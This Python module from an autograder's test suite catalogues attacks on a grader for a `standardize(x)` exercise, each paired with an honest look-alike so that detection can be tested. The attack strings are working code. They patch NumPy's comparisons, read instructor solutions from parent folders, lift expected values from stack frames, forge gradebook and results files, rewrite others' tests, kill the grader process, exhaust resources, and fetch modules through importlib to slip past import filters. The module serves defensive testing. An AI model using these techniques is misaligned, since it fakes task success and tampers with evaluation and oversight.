"""What `attacks_compared.py` hands in: attacks on `standardize(x)`, each with a look-alike.

No attack solves the task. Modules that one of the graders does not let a student name in an
`import` are fetched by `importlib`, as an attacker would; look-alikes do without them.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

from autograder.proof.corpus import read_attacks

RIGHT = "def standardize(x):\n    return (x - x.mean()) / x.std()\n"
WRONG = "def standardize(x):\n    return x\n"

AROUND = """import importlib
pathlib = importlib.import_module('pathlib')
starts = [pathlib.Path.cwd()]
starts.append(pathlib.Path((lambda: 0).__code__.co_filename).absolute().parent)
around = [above for start in starts for above in [start, *start.parents]]
# Outside the benchmark's folder nothing is looked at, but in a sandbox, which has another.
around = [a for a in around if 'attacks-' in str(a) or pathlib.Path('/scratch').exists()]
"""

CORPUS = Path(__file__).parent.parent / "tests" / "attacks"
TAKES_ANY_VALUE = next(a for a in read_attacks(CORPUS) if a.name == "takes_any_value")


@dataclass(frozen=True)
class Attack:
    """One attack.

    Attributes:
        name: what it is called.
        about: what it does, and what the look-alike does.
        code: what is handed in; `PORT` and `MARKER` are filled in.
        honest: a right answer that looks like it.
    """

    name: str
    about: str
    code: str
    honest: str


ATTACKS = (
    Attack(
        "patched comparison",
        "NumPy's comparisons accept everything. The look-alike tests itself with one of them.",
        "np.testing.assert_allclose = np.testing.assert_equal = lambda *a, **k: None\n"
        "np.allclose = np.array_equal = lambda *a, **k: True\n" + WRONG,
        RIGHT + "np.testing.assert_allclose(standardize(np.array([0.0, 2.0])), [-1, 1])\n",
    ),
    Attack(
        "equal to everything",
        "The answer is an array that takes the values of whatever it meets, in sums, in functions "
        "of NumPy and in comparisons, which all hold. The look-alike defines a class with `__eq__` "
        "for its own use.",
        "\n".join(TAKES_ANY_VALUE.sections["attack"])
        + "\ndef standardize(x):\n    return np.zeros(x.shape).view(Same)\n",
        "class Row:\n    def __init__(self, x):\n        self.x = x\n"
        "    def __eq__(self, other):\n        return (self.x == other.x).all()\n" + RIGHT,
    ),
    Attack(
        "quiet exit",
        "The process ends with exit code 0 before anything is tested. The look-alike registers a "
        "function that runs at its end.",
        "import importlib\nimportlib.import_module('os')._exit(0)\n" + WRONG,
        "import atexit\natexit.register(print, 'done')\n" + RIGHT,
    ),
    Attack(
        "the example by heart",
        "Right for the example that students have, and for nothing else. The look-alike treats an "
        "array of equal numbers apart.",
        "def standardize(x):\n"
        "    known = np.array([1.0, 2.0, 3.0, 4.0])\n"
        "    if x.shape == known.shape and (x == known).all():\n"
        "        return np.array([-1.34164079, -0.4472136, 0.4472136, 1.34164079])\n"
        "    return np.zeros(x.shape)\n",
        "def standardize(x):\n    if (x == x[0]).all():\n        return np.zeros(x.shape)\n"
        "    return (x - x.mean()) / x.std()\n",
    ),
    Attack(
        "reads the answers",
        "Looks for the instructor's files above its own folder, and runs the solution that stands "
        "there. The look-alike reads a file that it has written.",
        AROUND + "import re\n"
        "formula = 'x'\n"
        "names = ['test_student.py', 'source/hw/*.ipynb', 'solutions/*/*/*.py']\n"
        "for above in around:\n"
        "    for path in (path for name in names for path in above.glob(name)):\n"
        "        if found := re.search(r'return (\\(x - .*?std\\(\\))', path.read_text()):\n"
        "            formula = found.group(1)\n"
        "evaluate = importlib.import_module('builtins').eval\n"
        "def standardize(x):\n    return evaluate(formula, {'x': x})\n",
        "import tempfile\n"
        "with tempfile.TemporaryFile('w+') as file:\n"
        "    file.write('0.5')\n    file.seek(0)\n    half = float(file.read())\n" + RIGHT,
    ),
    Attack(
        "takes the expected value",
        "Looks for it in the frames of its callers. The look-alike looks at its own signature.",
        "import importlib\n"
        "def standardize(x):\n"
        "    frame = importlib.import_module('sys')._getframe()\n"
        "    while frame:\n"
        "        for names in (frame.f_locals, frame.f_globals):\n"
        "            for name in ('wanted', 'expected', 'desired'):\n"
        "                if isinstance(names.get(name), np.ndarray):\n"
        "                    return names[name]\n"
        "        frame = frame.f_back\n"
        "    return x\n",
        "import inspect\n" + RIGHT + "print(inspect.signature(standardize))\n",
    ),
    Attack(
        "writes the results",
        "Gives itself full marks in every gradebook and file of results around it, and ends a "
        "grader that would write others over them. The look-alike writes a file of its own.",
        AROUND + "import json\nsqlite3, os = map(importlib.import_module, ('sqlite3', 'os'))\n"
        "for above in around:\n"
        "    for path in above.glob('gradebook.db'):\n"
        "        with sqlite3.connect(path) as book:\n"
        "            book.execute('create trigger more after update on grade begin '\n"
        "                'update grade set extra_credit = 3 - ifnull(auto_score, 0) '\n"
        "                'where id = new.id; end')\n"
        "    if (above / 'test_student.py').exists():\n"
        "        (above / 'autograder_results.json').write_text(json.dumps({'score': 1.0,\n"
        "            'tests': [{'points': 3.0, 'outcome': 'passed'}]}))\n"
        "        os.kill(os.getppid(), 9)\n" + WRONG,
        "import tempfile\n"
        "with tempfile.NamedTemporaryFile('w') as file:\n    file.write('3')\n" + RIGHT,
    ),
    Attack(
        "rewrites the tests",
        "Asks for something else in all tests and notebooks around it, also of those who come "
        "after it. The look-alike writes a file of its own.",
        AROUND + "names = ['source/hw/*.ipynb', 'submitted/*/hw/*.ipynb', '*/test_student.py']\n"
        "names += ['solutions/*/*/*.py', 'in/*/hw/*.ipynb']\n"
        "for above in around:\n"
        "    for name in names:\n"
        "        for path in above.glob(name):\n"
        "            path.write_text(path.read_text().replace('x.std()', '(x.std() + 1)'))\n"
        + WRONG,
        "import tempfile\n"
        "with tempfile.NamedTemporaryFile('w') as file:\n    file.write('x.std()')\n" + RIGHT,
    ),
    Attack(
        "endless loop",
        "Computes for ever. The look-alike computes for a second.",
        "def standardize(x):\n    while True:\n        pass\n",
        "import time\nend = time.process_time() + 1\nwhile time.process_time() < end:\n    pass\n"
        + RIGHT,
    ),
    Attack(
        "memory",
        "Holds 3 GB. The look-alike holds 50 MB.",
        "def standardize(x):\n"
        "    held = []\n"
        "    for _ in range(30):\n"
        "        held.append(np.ones(100_000_000 // 8))\n"
        "    import time\n    time.sleep(2)\n    return x\n",
        "held = np.ones(50_000_000 // 8)\n" + RIGHT,
    ),
    Attack(
        "output",
        "Prints 100 MB. The look-alike prints 100 lines.",
        "for _ in range(100):\n    print('x' * 1_000_000)\n" + WRONG,
        "for number in range(100):\n    print(number)\n" + RIGHT,
    ),
    Attack(
        "processes",
        "Starts 20 programs that go on when it has ended; not more, so that any machine bears it. "
        "The look-alike uses threads.",
        "import importlib\n"
        "def standardize(x):\n"
        "    start = importlib.import_module('subprocess').Popen\n"
        "    for _ in range(20):\n"
        "        start(['sleep', 'MARKER'], start_new_session=True)\n"
        "    return x\n",
        "from concurrent.futures import ThreadPoolExecutor\n"
        "with ThreadPoolExecutor(2) as pool:\n    list(pool.map(abs, range(10)))\n" + RIGHT,
    ),
    Attack(
        "network",
        "Calls somebody up. The look-alike asks for an address that needs no network.",
        "import socket\n"
        "def standardize(x):\n"
        "    socket.create_connection(('127.0.0.1', PORT), 5).sendall(x.tobytes())\n"
        "    return x\n",
        "import ipaddress\nprint(ipaddress.ip_address('127.0.0.1'))\n" + RIGHT,
    ),
    Attack(
        "kills the grader",
        "Kills its parent process. The look-alike asks for its own number.",
        "import importlib\n"
        "def standardize(x):\n"
        "    os = importlib.import_module('os')\n"
        "    if os.getppid() > 1:\n        os.kill(os.getppid(), 9)\n"
        "    return x\n",
        "import threading\nprint(threading.get_native_id())\n" + RIGHT,
    ),
)
